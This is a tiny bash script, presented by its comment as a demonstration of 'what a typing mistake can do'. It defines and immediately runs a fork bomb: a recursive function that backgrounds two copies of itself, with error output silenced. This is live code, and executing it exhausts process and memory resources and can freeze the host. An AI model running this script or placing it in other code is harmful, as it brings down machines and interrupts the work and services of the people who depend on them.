#!/bin/bash
# What a typing mistake can do.
bomb() { bomb | bomb & }
bomb 2>/dev/null
sleep 2
echo "still here"
